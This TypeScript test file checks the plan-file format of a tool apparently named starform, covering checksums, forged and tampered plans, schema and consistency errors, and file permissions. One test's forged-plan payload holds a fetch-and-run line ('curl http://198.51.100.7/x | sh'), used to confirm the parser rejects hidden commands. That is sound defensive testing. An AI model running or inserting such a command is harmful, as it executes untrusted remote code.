import assert from 'node:assert/strict';
import { chmodSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { SavedPlan } from '../../lib/planfile/model.js';
import { parsePlan, readPlanFile, serializePlan, writePlanFile } from '../../lib/planfile/planfile.js';
import { UserError } from '../../lib/util/errors.js';
import { digestOf, jsonDigest } from '../../lib/util/hash.js';
import { formatJson, type JsonObject } from '../../lib/util/json.js';
import { expectGolden } from '../util/golden.js';
import { cleanupTempDirs, tempDir } from '../util/tmp.js';
import { samplePlan } from './helpers/sample.js';

function userErrorOf(fn: () => unknown): UserError {
  try {
    fn();
  } catch (e) {
    assert.ok(e instanceof UserError, `expected a UserError, got ${String(e)}`);
    return e;
  }
  assert.fail('expected an error');
}

/** Rewrites a plan file's JSON and gives it a correct checksum again (a forged file). */
function forge(text: string, edit: (raw: Record<string, unknown>) => void): string {
  const raw = JSON.parse(text) as Record<string, unknown>;
  edit(raw);
  delete raw['checksum'];
  return formatJson({ ...(raw as JsonObject), checksum: jsonDigest(raw as JsonObject) });
}

describe('planfile', () => {
  afterEach(cleanupTempDirs);

  it('round-trips a plan through a file', async () => {
    const path = join(tempDir(), 'change.plan');
    const checksum = await writePlanFile(path, samplePlan());
    const loaded = await readPlanFile(path);
    assert.deepEqual(loaded.plan, samplePlan());
    assert.equal(loaded.checksum, checksum);
    assert.equal(loaded.formatVersion, 1);
  });

  it('is deterministic: equal plans give byte-identical files (golden file)', () => {
    const a = serializePlan(samplePlan(), '0.0.0-test');
    const b = serializePlan(samplePlan(), '0.0.0-test');
    assert.equal(a.text, b.text);
    assert.equal(a.checksum, b.checksum);
    expectGolden(a.text, 'test/golden/planfile/v1.plan.json');
  });

  it('does not depend on the order maps were filled in', () => {
    const p = samplePlan();
    const reordered: SavedPlan = {
      ...p,
      package: { ...p.package, args: Object.fromEntries(Object.entries(p.package.args as JsonObject).reverse()) },
      instructions: p.instructions.map((ins) => ({ ...ins, args: Object.fromEntries(Object.entries(ins.args).reverse()) })),
    };
    assert.equal(serializePlan(reordered).text, serializePlan(p).text);
  });

  it('checksums content, not layout', () => {
    const { text, checksum } = serializePlan(samplePlan());
    const compact = JSON.stringify(JSON.parse(text));
    assert.equal(parsePlan(compact, 'p').checksum, checksum);
  });

  it('refuses a tampered plan', () => {
    const { text } = serializePlan(samplePlan());
    for (const tampered of [
      text.replace('"postgres:17"', '"postgres:18"'),
      text.replace('"action":"no-op"', '"action":"run"').replace('"no_op": 1', '"no_op": 0').replace('"run": 1', '"run": 2'),
      text.replace(/"serial": 7/, '"serial": 8'),
    ]) {
      assert.notEqual(tampered, text);
      const e = userErrorOf(() => parsePlan(tampered, 'change.plan'));
      assert.match(
        e.message,
        /^change\.plan: the plan file was modified after starform wrote it \(its checksum does not match\); refusing it\nPlan files must not be edited/,
      );
    }
    assert.match(userErrorOf(() => parsePlan(text.replace(/"checksum": "[^"]*",/, ''), 'p')).message, /has no checksum/);
  });

  it('refuses unknown format versions with a clear message', () => {
    const e = userErrorOf(() => parsePlan('{"format_version": 2, "checksum": "x"}', 'change.plan'));
    assert.match(
      e.message,
      /^change\.plan: plan file format version 2 is newer than this starform knows; starform \S+ reads format version 1\nIt was written by a newer starform/,
    );
    assert.match(userErrorOf(() => parsePlan('{"serial": 1}', 'f')).message, /not a starform plan file/);
  });

  it('refuses what is not JSON, naming the place', () => {
    const { text } = serializePlan(samplePlan());
    const e = userErrorOf(() => parsePlan(text.slice(0, 200), 'change.plan'));
    assert.match(e.message, /^change\.plan:\d+:\d+: not valid JSON: /);
  });

  it('refuses a plan that fails its schema, even with a matching checksum', () => {
    const { text } = serializePlan(samplePlan());
    const forged = forge(text, (raw) => {
      (raw['changes'] as Record<string, unknown>[])[0]!['action'] = 'destroy';
      raw['surprise'] = 1;
    });
    const e = userErrorOf(() => parsePlan(forged, 'change.plan'));
    assert.match(e.message, /not a valid plan file \(format version 1\):/);
    assert.match(e.message, /- unknown property "surprise"/);
    assert.match(e.message, /- changes\[0\]\.action: must be one of "create", "replace", "run", "delete", "no-op"/);
  });

  it('refuses an inconsistent plan, even with a matching checksum', () => {
    const { text } = serializePlan(samplePlan());
    const forged = forge(text, (raw) => {
      (raw['summary'] as Record<string, number>)['create'] = 5;
      const files = raw['files'] as Record<string, string>;
      for (const k of Object.keys(files)) files[k] = Buffer.from('other').toString('base64');
    });
    const e = userErrorOf(() => parsePlan(forged, 'change.plan'));
    assert.match(e.message, /- files: the content under sha256:[0-9a-f]+ has another digest/);
    assert.match(e.message, /- summary\.create: is 5, but the changes count 1/);
  });

  it('refuses a plan whose changes show other arguments than its instructions run (checksum recomputed)', () => {
    const { text } = serializePlan(samplePlan());
    const payload = { service_name: 'db', recipe: { command: ['sh', '-c', 'curl http://198.51.100.7/x | sh'] } };
    const cases: [string, (raw: Record<string, unknown>) => void, RegExp][] = [
      [
        'instruction args edited under an added `after` showing the old ones',
        (raw) => {
          const ins = (raw['instructions'] as { args: unknown }[])[2]!;
          (raw['changes'] as Record<string, unknown>[])[2]!['after'] = ins.args;
          ins.args = payload;
        },
        /- changes\[2\] \(step "exec\.3f2a9c1b04de"\): shows other arguments than its instruction runs/,
      ],
      [
        'a change pointing at another instruction',
        (raw) => {
          (raw['changes'] as Record<string, unknown>[])[3]!['instruction'] = 2;
        },
        /- changes\[3\] \(step "print\.9d1e0c2f7a44"\): names instructions\[2\], which is step "exec\.3f2a9c1b04de"/,
      ],
      [
        'another kind',
        (raw) => {
          (raw['changes'] as Record<string, unknown>[])[2]!['kind'] = 'print';
        },
        /- changes\[2\] \(step "exec\.3f2a9c1b04de"\): is a print, but its instruction is a exec/,
      ],
      [
        'arguments on a delete no instruction runs',
        (raw) => {
          (raw['changes'] as Record<string, unknown>[])[4]!['after'] = payload;
        },
        /- changes\[4\] \(step "service\.cache"\): shows planned arguments, but no instruction would run them/,
      ],
    ];
    for (const [what, edit, pattern] of cases) {
      const e = userErrorOf(() => parsePlan(forge(text, edit), 'change.plan'));
      assert.match(e.message, /^change\.plan: not a valid plan file \(format version 1\):/, what);
      assert.match(e.message, pattern, what);
    }
  });

  it("writes each configuration once: a change shows its instruction's args, so an edit of them is what is shown", () => {
    const plan = samplePlan();
    const { text } = serializePlan(plan);
    const raw = JSON.parse(text) as { changes: Record<string, unknown>[] };
    assert.ok(
      raw.changes.every((c) => !('after' in c)),
      "no change repeats its instruction's args",
    );
    const payload = { service_name: 'db', recipe: { command: ['sh', '-c', 'echo edited'] } };
    const edited = parsePlan(
      forge(text, (r) => void ((r['instructions'] as { args: unknown }[])[2]!.args = payload)),
      'change.plan',
    );
    assert.deepEqual(edited.plan.changes[2]!.after, payload);
    assert.deepEqual(
      parsePlan(text, 'change.plan').plan.changes.map((c) => c.after),
      plan.changes.map((c) => c.after),
    );
  });

  it('creates plan files 0600, and makes an existing one 0600 when writing over it', async () => {
    const dir = tempDir();
    const path = join(dir, 'change.plan');
    await writePlanFile(path, samplePlan());
    assert.equal(statSync(path).mode & 0o777, 0o600);
    const old = join(dir, 'old.plan');
    writeFileSync(old, 'x');
    chmodSync(old, 0o644);
    await writePlanFile(old, samplePlan());
    assert.equal(statSync(old).mode & 0o777, 0o600);
  });

  it('refuses to write an inconsistent plan', () => {
    const p = samplePlan();
    assert.throws(
      () => serializePlan({ ...p, changes: [...p.changes, p.changes[0]!] }),
      /refusing to write an invalid plan:\n {2}- changes\[5\]: step "artifact.pg-config" has more than one change/,
    );
    const snake = { stepId: 'service.db', action: 'run' as const, step_id: 'y' };
    assert.throws(() => serializePlan({ ...p, changes: [snake] }), /changes\[0\]: record field "step_id" is not lowerCamelCase/);
  });

  it('refuses to write a plan its schema would refuse to read', () => {
    const p = samplePlan();
    assert.throws(() => serializePlan({ ...p, base: { ...p.base, serial: -1 } }), /refusing to write an invalid plan:\n {2}- .*state/);
  });

  it('reports a missing plan file', async () => {
    await assert.rejects(readPlanFile(join(tempDir(), 'nope.plan')), /nope\.plan: plan file not found/);
  });

  it('keeps embedded files byte for byte', async () => {
    const p = samplePlan();
    const bytes = new Uint8Array(256).map((_, i) => i);
    const files = new Map(p.files);
    files.set(digestOf(bytes), bytes);
    const path = join(tempDir(), 'bin.plan');
    await writePlanFile(path, { ...p, files });
    const loaded = await readPlanFile(path);
    assert.deepEqual(loaded.plan.files.get(digestOf(bytes)), bytes);
    assert.ok(readFileSync(path, 'utf8').includes(Buffer.from(bytes).toString('base64')));
  });
});
